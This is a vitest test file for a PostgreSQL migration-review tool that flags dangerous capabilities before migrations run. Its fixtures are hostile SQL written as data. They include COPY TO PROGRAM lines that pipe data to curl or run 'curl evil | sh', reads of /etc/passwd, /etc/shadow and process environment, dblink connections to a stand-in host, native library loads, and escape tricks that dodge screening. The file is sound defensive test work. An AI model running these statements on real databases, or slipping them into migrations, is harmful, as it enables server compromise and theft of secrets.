// Capability screening: what a migration has no business doing during a review, found before anything runs it.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { rules } from '../../rules/index.js';
import { hardeningRules } from '../../rules/_hardening.js';
import { reviewInline } from '../../src/analysis/inline.js';
import { parseRuleDoc } from '../../src/analysis/rule-docs.js';
import { createScreenContext, describeCapabilities, screenSql, screenStatement, unresolvedExecutes, type CapabilityHit } from '../../src/analysis/screen.js';
import { loadParser, parseSource } from '../../src/sql/parse.js';
import type { Migration } from '../../src/types.js';

beforeAll(loadParser);

const all = [...rules.filter((r) => r.id !== 'untrusted-capability'), ...hardeningRules];

/** Screen each statement of a file in order with one context; one entry per statement. */
function screenFile(sql: string): CapabilityHit[][] {
  const src = parseSource({ file: 'm.sql', text: sql, startLine: 1, startByte: 0 }, { migration: { id: 'm' } as Migration, direction: 'up' });
  expect(src.errors, 'test SQL must parse').toEqual([]);
  const ctx = createScreenContext();
  return src.statements.map((s) => screenStatement(s, ctx));
}
const caps = (hits: CapabilityHit[]) => [...new Set(hits.map((h) => h.capability))].sort();
const one = (sql: string) => {
  const r = screenFile(sql);
  expect(r).toHaveLength(1);
  return r[0]!;
};

describe('screenStatement: top-level statements', () => {
  it.each([
    ["COPY t FROM PROGRAM 'id'", 'shell-command'],
    ["COPY t TO PROGRAM 'curl -d @- evil'", 'shell-command'],
    ["COPY t FROM '/etc/passwd'", 'server-file-access'],
    ["COPY (SELECT 1) TO '/tmp/out'", 'server-file-access'],
    ["SELECT pg_read_file('/etc/passwd')", 'server-file-access'],
    ["SELECT pg_catalog.pg_read_binary_file('x')", 'server-file-access'],
    ["SELECT * FROM pg_ls_dir('.')", 'server-file-access'],
    ["SELECT pg_stat_file('PG_VERSION')", 'server-file-access'],
    ['SELECT * FROM pg_ls_logdir()', 'server-file-access'],
    ['SELECT * FROM pg_ls_waldir()', 'server-file-access'],
    ['SELECT * FROM pg_ls_tmpdir()', 'server-file-access'],
    ["SELECT lo_import('/etc/hosts')", 'server-file-access'],
    ["SELECT lo_export(1234, '/tmp/x')", 'server-file-access'],
    ["CREATE TABLE t (a text DEFAULT pg_read_file('/etc/hostname'))", 'server-file-access'],
    ["CREATE VIEW v AS SELECT pg_read_file('/etc/hostname') AS h", 'server-file-access'],
    ['CREATE EXTENSION plpython3u', 'untrusted-language'],
    ['CREATE EXTENSION IF NOT EXISTS plperlu', 'untrusted-language'],
    ['CREATE LANGUAGE pltclu', 'untrusted-language'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", 'untrusted-language'],
    ["DO LANGUAGE plperlu $$ system('id') $$", 'untrusted-language'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'", 'native-code'],
    ["CREATE FUNCTION f(text) RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'", 'server-file-access'],
    ["LOAD 'auto_explain'", 'native-code'],
    ["ALTER ROLE app SET session_preload_libraries = 'evil'", 'native-code'],
    ["ALTER SYSTEM SET archive_command = 'curl evil'", 'server-configuration'],
    ['CREATE EXTENSION adminpack', 'server-file-access'],
    ['CREATE EXTENSION file_fdw', 'server-file-access'],
    ["CREATE FOREIGN TABLE ft (a text) SERVER files OPTIONS (program 'id')", 'shell-command'],
    ["CREATE FOREIGN TABLE ft (a text) SERVER files OPTIONS (filename '/etc/passwd')", 'server-file-access'],
    ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", 'network-connection'],
    ["SELECT dblink_connect('c', 'host=evil')", 'network-connection'],
    ["SELECT dblink_exec('host=evil', 'drop table x')", 'network-connection'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'network-connection'],
    ["CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (user 'u')", 'network-connection'],
    ['IMPORT FOREIGN SCHEMA public FROM SERVER s INTO remote', 'network-connection'],
    ['GRANT pg_execute_server_program TO app', 'privileged-role'],
    ["SELECT query_to_xml('copy t to program ''id''', true, true, '')", 'shell-command'],
  ])('%s → %s', (sql, cap) => {
    const hits = one(sql);
    expect(caps(hits)).toEqual([cap]);
    expect(hits.every((h) => h.refuse && h.severity === 'critical')).toBe(true);
  });

  it.each([
    'COPY t FROM STDIN',
    'COPY (SELECT 1) TO STDOUT',
    "SELECT lo_from_bytea(0, '\\x00'::bytea)",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plv8 AS 'return 1'",
    'CREATE EXTENSION vector',
    'CREATE EXTENSION dblink',
    'CREATE EXTENSION postgres_fdw',
    "SELECT current_setting('search_path')",
    'GRANT SELECT ON t TO app',
    'GRANT authenticated TO app',
    "SET search_path = 'public'",
    "SELECT 'pg_read_file(''/etc/passwd'')' AS just_text",
  ])('clean: %s', (sql) => expect(one(sql)).toEqual([]));

  it('locates a top-level call for a precise line', () => {
    const [hits] = screenFile("SELECT 1,\n  pg_read_file('/x')");
    expect(hits![0]!.location).toBe(12);
  });
});

describe('screenStatement: inside PL/pgSQL, SQL bodies and dynamic SQL', () => {
  it.each([
    ["DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", 'server-file-access'],
    ["DO $$ DECLARE x text := pg_read_file('/x'); BEGIN END $$", 'server-file-access'],
    ["DO $$ DECLARE x text; BEGIN x := pg_ls_dir('.'); END $$", 'server-file-access'],
    ["DO $$ BEGIN IF pg_stat_file('x') IS NULL THEN RAISE NOTICE 'n'; END IF; END $$", 'server-file-access'],
    ["DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''curl evil | sh'''; END $$", 'shell-command'],
    ["DO $$ BEGIN EXECUTE 'COPY t FROM ' || 'PROGRAM ''id'''; END $$", 'shell-command'],
    ["DO $$ DECLARE c text := 'id'; BEGIN EXECUTE 'COPY t FROM PROGRAM ' || quote_literal(c); END $$", 'shell-command'],
    ["DO $$ BEGIN EXECUTE format('COPY %I FROM PROGRAM %L', 't', 'id'); END $$", 'shell-command'],
    ["DO $$ BEGIN EXECUTE format('SELECT %I(%L)', 'pg_read_file', '/x'); END $$", 'server-file-access'],
    ["DO $$ BEGIN EXECUTE format('CREATE EXTENSION %I', 'plperlu'); END $$", 'untrusted-language'],
    ["DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET log_statement = ''none'''; END $$", 'server-configuration'],
    ["DO $$ BEGIN EXECUTE 'DO $i$ BEGIN PERFORM lo_import(''/etc/shadow''); END $i$'; END $$", 'server-file-access'],
    ["DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT * FROM pg_ls_dir(''/'')' LOOP END LOOP; END $$", 'server-file-access'],
    ["DO $$ BEGIN PERFORM dblink_exec('host=evil', 'select 1'); END $$", 'network-connection'],
    ["CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/proc/self/environ'); END $$", 'server-file-access'],
    ["CREATE FUNCTION f() RETURNS setof text LANGUAGE sql AS $$ SELECT pg_ls_dir('/') $$", 'server-file-access'],
    ["CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('/x'); END", 'server-file-access'],
    ["CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'LOAD ''/tmp/evil.so'''; END $$", 'native-code'],
  ])('%s → %s', (sql, cap) => expect(caps(one(sql))).toEqual([cap]));

  it('PL/pgSQL that assembles safe dynamic SQL with %I/%L or quote_ident is clean', () => {
    expect(one("DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE format('ALTER TABLE %I.%I ENABLE ROW LEVEL SECURITY', 'public', r.tablename); END LOOP; END $$")).toEqual([]);
    expect(one("DO $$ DECLARE t text := 'x'; BEGIN EXECUTE 'ALTER TABLE ' || quote_ident(t) || ' ADD COLUMN y int'; END $$")).toEqual([]);
    expect(one("DO $$ BEGIN EXECUTE format('GRANT SELECT ON %I TO %I', 'a', 'b'); END $$")).toEqual([]);
  });

  it('dynamic SQL that cannot be screened is low severity and not refused, only where it runs', () => {
    for (const sql of [
      "DO $$ BEGIN EXECUTE convert_from(decode('Q09QWQ==', 'base64'), 'utf8'); END $$",
      "DO $$ DECLARE q text := 'select 1'; BEGIN EXECUTE q; END $$",
      "DO $$ DECLARE n text := 'x'; BEGIN EXECUTE format('SELECT %s', n); END $$",
      // a run-time identifier in a function-name position could name any function
      "DO $$ DECLARE n text := 'x'; BEGIN EXECUTE format('SELECT %I()', n); END $$",
      "DO $$ DECLARE n text := 'x'; BEGIN EXECUTE format('SET %I = 1', n); END $$",
    ]) {
      const hits = one(sql);
      expect(caps(hits), sql).toEqual(['dynamic-sql']);
      expect(hits[0]).toMatchObject({ severity: 'low', refuse: false });
    }
    // A function with dynamic SQL is not flagged when created, only when called.
    const [create, call] = screenFile('CREATE FUNCTION run(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE q; END $$; SELECT run($q$select 1$q$);');
    expect(create).toEqual([]);
    expect(caps(call!)).toEqual(['dynamic-sql']);
  });

  it('a call to a function created earlier with a flagged body is flagged too (SELECT, CALL, PERFORM, triggers)', () => {
    const r = screenFile(`
      CREATE FUNCTION public.leak() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/proc/self/environ'); END $$;
      CREATE PROCEDURE shell() LANGUAGE plpgsql AS $$ BEGIN COPY t FROM PROGRAM 'id'; END $$;
      CREATE FUNCTION innocent() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;
      SELECT public.leak();
      CALL shell();
      DO $$ BEGIN PERFORM leak(); END $$;
      CREATE FUNCTION wrapper() RETURNS text LANGUAGE sql AS $$ SELECT leak() $$;
      SELECT wrapper();
      CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION leak();
      CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION leak();
      SELECT innocent();
      CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT 'fixed' $$;
      SELECT leak();
    `);
    expect(r.map(caps)).toEqual([
      ['server-file-access'],
      ['shell-command'],
      [],
      ['server-file-access'],
      ['shell-command'],
      ['server-file-access'],
      ['server-file-access'],
      ['server-file-access'],
      ['server-file-access'],
      ['server-file-access'],
      [],
      [],
      [],
    ]);
    expect(r[3]![0]!.detail).toMatch(/calls leak\(\), created earlier/);
    expect(r[8]![0]!.detail).toMatch(/trigger t runs leak\(\)/);
  });

  it('screenSql screens ad-hoc text; hostile nesting and size are bounded and never throw', () => {
    expect(caps(screenSql("SELECT 1; COPY t TO PROGRAM 'x';"))).toEqual(['shell-command']);
    // EXECUTE of EXECUTE of … deeper than the limit: reported as unscreenable, not a stack overflow.
    let inner = "SELECT pg_read_file('/x')";
    for (let i = 0; i < 12; i++) inner = `DO $d${i}$ BEGIN EXECUTE ${"'" + inner.replace(/'/g, "''") + "'"}; END $d${i}$`;
    const hits = screenSql(inner);
    expect(hits.length).toBeGreaterThan(0);
    expect(() => screenStatement({ kind: 'DoStmt', node: { args: 'garbage' } })).not.toThrow();
    expect(screenStatement({ kind: 'CopyStmt', node: null })).toEqual([]);
  });

  // The screen skips text that cannot hold anything it flags (most PL/pgSQL expressions): these are
  // the spellings a word-based skip could miss, each of which the parser resolves to a flagged call.
  it('finds calls however they are spelled: escapes, capitals, quoted, cut long names, Kelvin sign', () => {
    for (const call of [
      `U&"\\0070g_read_file"('/x')`,
      `"PG_READ_FILE"('/x')`,
      `Pg_Read_File('/x')`,
      `"DBLIN\u212A"('host=evil', 'select 1')`,
      `set_config('session_authorization', 'x', false)`,
    ]) {
      expect(caps(one(`DO $$ DECLARE x text; BEGIN x := ${call}; END $$`)), call).not.toEqual([]);
      expect(caps(one(`CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN ${call.replace(/'/g, "''")}; END'`)), call).not.toEqual([]);
    }
    const long = 'a'.repeat(60) + 'leak';
    const r = screenFile(`
      CREATE FUNCTION ${long.slice(0, 63)}() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/x') $$;
      CREATE FUNCTION "\u212Aleak"() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/x') $$;
      DO $$ BEGIN PERFORM ${long}(); END $$;
      DO $$ BEGIN PERFORM kleak(); END $$;
    `);
    expect(r.map(caps)).toEqual([['server-file-access'], ['server-file-access'], ['server-file-access'], ['server-file-access']]);
    // A quoted name with a double quote in it is written with the quote doubled: x"y is "x""y".
    const quoted = screenFile(`
      CREATE FUNCTION "x""y"() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/x') $$;
      SELECT "x""y"();
    `);
    expect(quoted.map(caps)).toEqual([['server-file-access'], ['server-file-access']]);
  });

  // A body whose keywords and names are all in comments or string literals is not parsed: code
  // right after a comment or literal the skip could misread must still be screened.
  it('reads a body whose flagged words are only in comments or strings no further, and still finds code next to them', () => {
    const [stmt] = parseSource(
      {
        file: 'm.sql',
        text: `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$
          BEGIN
            -- copy the rows; do not execute anything, no trigger function here
            /* COPY t FROM PROGRAM 'id' */
            RAISE NOTICE 'pg_read_file() and dblink are not called: %', 'execute';
          END $f$;`,
        startLine: 1,
        startByte: 0,
      },
      { migration: { id: 'm' } as Migration, direction: 'up' },
    ).statements;
    let reads = 0;
    const counted = {
      kind: stmt!.kind,
      node: stmt!.node,
      sql: stmt!.sql,
      get plpgsql() {
        reads++;
        return stmt!.plpgsql;
      },
    };
    expect(screenStatement(counted)).toEqual([]);
    expect(reads).toBe(0);

    for (const [sql, cap] of [
      ["DO $$ BEGIN -- it's\n PERFORM pg_ls_dir('.'); END $$", 'server-file-access'],
      ["DO $$ BEGIN /* a /* b */ c */ PERFORM lo_import('/x'); END $$", 'server-file-access'],
      // `$x$` inside an identifier opens no dollar quote
      ["DO $f$ DECLARE v$x$ text; BEGIN v$x$ := 'a'; PERFORM pg_read_file('/x'); v$x$ := 'b'; END $f$", 'server-file-access'],
      // E'…' escapes a quote with a backslash, and so does a literal continuing it on the next line
      ["DO $$ DECLARE x text; BEGIN x := E'it\\'s'; PERFORM pg_read_file('/x'); END $$", 'server-file-access'],
      ["DO $$ DECLARE x text; BEGIN x := E'a'\n'b\\''; PERFORM pg_read_file('/x'); x := 'c'; END $$", 'server-file-access'],
      [`DO $$ DECLARE "a--b" text; BEGIN "a--b" := pg_read_file('/x'); END $$`, 'server-file-access'],
      ["DO $$ BEGIN RAISE NOTICE '-- /*'; EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$", 'shell-command'],
    ]) {
      const [parsed] = parseSource({ file: 'm.sql', text: sql!, startLine: 1, startByte: 0 }, { migration: { id: 'm' } as Migration, direction: 'up' }).statements;
      expect(parsed!.plpgsql, `${sql} must parse as PL/pgSQL`).toBeDefined();
      expect(caps(one(sql!)), sql).toEqual([cap]);
    }
  });

  // Found by review: code the splitter read as a string. PostgreSQL 15 ran each of these.
  it('screens code hidden by a literal continued after a comment, or by a backslash in a plain literal', () => {
    for (const sql of [
      // `E'a' -- c` and a newline: the next literal continues the E'' one, so `\'` does not end it.
      "DO $x$\nDECLARE t text := E'a' -- c\n'\\' '; BEGIN RAISE NOTICE $m$read: %$m$, left(pg_read_file($p$/etc/passwd$p$), 20); END --';\n$x$;",
      // With standard_conforming_strings off (a session's or function's setting) `\'` escapes the quote.
      "DO $x$\nDECLARE t text := '\\' '; BEGIN PERFORM pg_read_file('/etc/passwd'); END --';\n$x$;",
    ])
      expect(caps(one(sql)), sql).toEqual(['server-file-access']);
  });

  // A body that parses either way, and whose call is code only with standard_conforming_strings off
  // (PostgreSQL 15 ran it). Turning it off is refused; later bodies are screened by pattern too.
  it('refuses turning standard_conforming_strings off, and screens later bodies by pattern too', () => {
    const body = "DECLARE a text := '\\'; b text := '; BEGIN PERFORM pg_read_file($p$/x$p$); END; --'; BEGIN END";
    expect(screenFile(`DO $$ ${body} $$;`).map(caps)).toEqual([[]]);
    expect(screenFile(`SET standard_conforming_strings = off;\nDO $$ ${body} $$;`).map(caps)).toEqual([['dynamic-sql'], ['server-file-access']]);
    expect(screenFile(`SELECT set_config('standard_conforming_strings', 'off', false);\nDO $$ ${body} $$;`).map(caps)).toEqual([['dynamic-sql'], ['server-file-access']]);
    expect(screenFile(`CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SET standard_conforming_strings = off AS $f$ ${body} $f$;`).map(caps)).toEqual([['dynamic-sql', 'server-file-access']]);
    // Refused: the review does not run it, and the finding is critical.
    for (const sql of [
      'SET LOCAL standard_conforming_strings TO false;',
      'ALTER FUNCTION f() SET standard_conforming_strings = off;',
      'ALTER ROLE app SET standard_conforming_strings = off;',
      "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';",
    ]) {
      const hits = one(sql);
      expect(hits.some((h) => h.refuse), sql).toBe(true);
      expect(describeCapabilities(hits).severity, sql).toBe('critical');
    }
    // A body that does not parse is screened by pattern once, not once more for the setting.
    const [, unparsed] = screenFile("SET standard_conforming_strings = off;\nCREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $f$ not pl/pgsql; pg_read_file('/x') $f$;");
    expect(unparsed!.filter((h) => h.capability === 'server-file-access')).toHaveLength(1);
    // Turned on (pg_dump's own SET) or reset: nothing.
    expect(screenFile(`SET standard_conforming_strings = on;\nRESET standard_conforming_strings;\nDO $$ ${body} $$;`).map(caps)).toEqual([[], [], []]);
  });

  it('ts_rewrite(query, select) runs its second argument as SQL; its three-argument form runs none', () => {
    expect(caps(one("SELECT ts_rewrite('a'::tsquery, 'SELECT pg_read_file(''/x'')::tsquery, ''b''::tsquery')"))).toEqual(['server-file-access']);
    expect(caps(one("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)"))).toEqual([]);
  });

  it('unresolvedExecutes reads no tree for a body that says EXECUTE only in comments or strings, and still finds one in code', () => {
    const parse = (text: string) => parseSource({ file: 'm.sql', text, startLine: 1, startByte: 0 }, { migration: { id: 'm' } as Migration, direction: 'up' }).statements[0]!;
    const quiet = parse("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN -- execute q\n RAISE NOTICE 'execute %', 1; END $$");
    let reads = 0;
    const counted = {
      kind: quiet.kind,
      node: quiet.node,
      sql: quiet.sql,
      get plpgsql() {
        reads++;
        return quiet.plpgsql;
      },
    };
    expect(unresolvedExecutes(counted)).toEqual([]);
    expect(reads).toBe(0);
    const loud = parse("CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE E'it\\'s'; EXECUTE q; END $$");
    expect(unresolvedExecutes(loud)).toMatchObject([{ expr: 'q' }]);
  });

  it('a flagged function the grammar calls by syntax alone is flagged where the syntax is used', () => {
    for (const [fn, use] of [
      ['timezone', "x := now() AT TIME ZONE 'utc'"],
      ['timezone', 'x := now() AT LOCAL'],
      ['btrim', "x := TRIM(' a ')"],
      ['ltrim', "x := TRIM(LEADING 'a' FROM 'ab')"],
      ['like_escape', "x := 'a' LIKE 'b' ESCAPE 'c'"],
      ['similar_to_escape', "x := 'a' SIMILAR TO 'b'"],
      ['is_normalized', "x := 'a' IS NORMALIZED"],
      ['pg_collation_for', "x := COLLATION FOR ('a')"],
      ['int4', 'x := TREAT(1 AS integer)'],
    ]) {
      const r = screenFile(`
        CREATE FUNCTION ${fn}(a text default null, b text default null) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN RETURN pg_read_file('/x'); END $f$;
        DO $$ DECLARE x text; BEGIN ${use}; END $$;
      `);
      expect(r.map(caps), use).toEqual([['server-file-access'], ['server-file-access']]);
    }
  });
});

describe('rule untrusted-capability', () => {
  it('reports one critical finding per statement naming the capability, and says it was not executed', async () => {
    const res = await reviewInline(
      {
        changed: [
          `CREATE TABLE a (id int);
DO $$ BEGIN EXECUTE 'COPY a FROM PROGRAM ''id'''; PERFORM pg_read_file('/etc/passwd'); END $$;
SELECT 1;`,
        ],
      },
      all,
    );
    const f = res.findings.filter((x) => x.ruleId === 'untrusted-capability');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ severity: 'critical', category: 'security', line: 2, object: 'shell-command, server-file-access' });
    expect(f[0]!.message).toMatch(/did NOT execute/);
    expect(f[0]!.message).toMatch(/supply-chain risk/);
    expect(f[0]!.title).toMatch(/shell command/);
  });

  it('flags a call in a later migration of the same review, and screens down migrations', async () => {
    const res = await reviewInline(
      {
        changed: [
          "CREATE FUNCTION env() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/proc/self/environ'); END $$;",
          { sql: 'SELECT env();', down: "COPY (SELECT 1) TO PROGRAM 'id';" },
        ],
      },
      all,
    );
    const f = res.findings.filter((x) => x.ruleId === 'untrusted-capability').map((x) => [x.file, x.line, x.object]);
    expect(f).toEqual(
      expect.arrayContaining([
        ['0001_change.sql', 1, 'server-file-access'],
        ['0002_change.sql', 1, 'server-file-access'],
        ['0002_change.down.sql', 1, 'shell-command'],
      ]),
    );
    expect(f).toHaveLength(3);
  });

  it('unscreenable dynamic SQL is a low finding; suppression works', async () => {
    const res = await reviewInline(
      { changed: ["DO $$ DECLARE q text := 'select 1'; BEGIN EXECUTE q; END $$;\n-- pgreview-ignore untrusted-capability: operator-reviewed\nCOPY t TO '/tmp/x';"] },
      all,
    );
    const f = res.findings.filter((x) => x.ruleId === 'untrusted-capability');
    expect(f.map((x) => x.severity)).toEqual(['low']);
    expect(res.suppressed.map((x) => x.ruleId)).toEqual(['untrusted-capability']);
  });

  // test/rules/doc-examples.test.ts runs these too, through the registry; here they also run against the group module directly.
  const doc = parseRuleDoc(readFileSync(join(import.meta.dirname, '../../rules/untrusted-capability.md'), 'utf8'));
  it('doc has bad and good examples', () => {
    expect(doc.examples.filter((e) => e.role === 'bad').length).toBeGreaterThanOrEqual(6);
    expect(doc.examples.filter((e) => e.role === 'good').length).toBeGreaterThanOrEqual(3);
  });
  it.each(doc.examples.map((e, i) => [`${e.role} #${i + 1} (line ${e.line})`, e] as const))('doc example %s', async (_n, e) => {
    const res = await reviewInline({ changed: [{ sql: e.sql }] }, all);
    const internal = res.findings.filter((f) => f.title.includes('could not check'));
    expect(internal).toEqual([]);
    const hits = res.findings.filter((f) => f.ruleId === 'untrusted-capability');
    expect(hits.map((h) => h.message)).toHaveLength(e.role === 'bad' ? 1 : 0);
  });
});
